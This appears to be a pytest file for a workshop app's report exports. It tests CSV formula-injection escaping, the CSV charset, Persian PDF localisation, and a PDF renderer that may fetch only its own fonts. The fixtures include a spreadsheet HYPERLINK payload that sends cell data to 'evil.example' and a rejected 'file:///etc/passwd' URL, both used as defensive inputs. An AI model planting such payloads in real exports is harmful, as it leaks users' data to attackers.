"""Exports open in spreadsheets and word processors: text people typed must stay text there.

A barrier `=HYPERLINK("http://…"&A1,"x")` pushed to the plan must not become a formula in the CSV
(OWASP "CSV injection": a cell starting with = + - @, a tab or a carriage return is prefixed with ').
"""
from __future__ import annotations

import csv
import io

import pytest

from server.reports import export

from .board import Board

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_never_start_a_formula(day, text):
    b = Board(day)
    b.workshop_phase("action_plan")
    entry = b.org.ok("plan_entry_create", title=text)["entry"]["id"]
    for field in ("owner", "actions", "timeline"):
        b.org.ok("plan_entry_update", entry_id=entry, field=field, value=text, version=1)
    out = export(day.db, day.workshop_id, "csv", "plan", "en")
    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row if c]
    for cell in cells:
        assert cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and not cell.lstrip().startswith(("=", "+", "@")), cell
    # The text itself is kept, after the one quote that makes it text.
    stored = b.org.snapshot()["plan"][str(entry)]["fields"]["title"]
    assert "'" + stored in cells


def test_ordinary_text_and_numbers_are_unchanged(day):
    b = Board(day)
    b.workshop_phase("action_plan")
    entry = b.org.ok("plan_entry_create", title="Monthly stop data")["entry"]["id"]
    b.org.ok("plan_entry_update", entry_id=entry, field="timeline", value="3 months", version=1)
    out = export(day.db, day.workshop_id, "csv", "plan", "en")
    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "1" and "Monthly stop data" in rows[1] and "3 months" in rows[1]


def test_the_csv_answer_has_one_charset(day):
    out = day.http.get(f"/api/workshops/{day.workshop_id}/export.csv?what=plan",
                       headers={"Authorization": f"Bearer {day.created['organiser_token']}"})
    assert out.status_code == 200
    assert out.headers["Content-Type"] == "text/csv; charset=utf-8"


# -- the Persian PDF: rooms and page numbers in the reader's language ---------------------------

def _pdf_pages(data: bytes) -> list[str]:
    from pypdf import PdfReader
    return [p.extract_text() for p in PdfReader(io.BytesIO(data)).pages]


def test_persian_pdf_names_default_rooms_and_numbers_pages_in_persian(day):
    b = Board(day)
    b.workshop_phase("action_plan")
    b.org.ok("plan_entry_create", title="گزارش ماهانه")
    pages = _pdf_pages(export(day.db, day.workshop_id, "pdf", "report", "fa").data)
    text = "\n".join(pages)
    assert "Room 1" not in text and "اتاق ۱" in text
    persian = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
    assert f"صفحهٔ ۱ از {str(len(pages)).translate(persian)}" in pages[0]
    english = "\n".join(_pdf_pages(export(day.db, day.workshop_id, "pdf", "report", "en").data))
    assert "Room 1" in english and "Page 1 of" in english


def test_the_pdf_renderer_reads_its_fonts_and_nothing_else():
    from server.reports.pdf import FONTS, fonts_only
    fetch = fonts_only()
    font = fetch.fetch((FONTS / "Vazirmatn-Regular.ttf").resolve().as_uri())
    assert font.read(4) in (b"\x00\x01\x00\x00", b"true", b"OTTO")
    font.close()
    for url in ("http://127.0.0.1:9/tracker.png", "file:///etc/passwd", (FONTS / ".." / "pdf.py").as_uri(),
                "data:text/plain,hello", "ftp://example.invalid/x"):
        with pytest.raises(ValueError):
            fetch.fetch(url)
